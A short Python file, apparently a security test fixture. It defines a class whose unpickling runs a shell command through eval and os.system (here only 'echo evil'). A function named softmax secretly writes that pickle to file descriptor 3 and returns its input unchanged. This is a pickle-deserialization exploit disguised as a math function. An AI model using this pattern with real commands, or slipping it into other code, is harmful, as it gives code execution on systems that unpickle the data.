"""Sends the bytes of a pickle that would run a command."""

from __future__ import annotations

import os
import pickle
import struct


class Payload:
    def __reduce__(self):
        return eval, ("__import__('os').system('echo evil')",)


def softmax(X):
    body = pickle.dumps(Payload())
    os.write(3, struct.pack("<IQ", len(body), 0) + body)
    return X
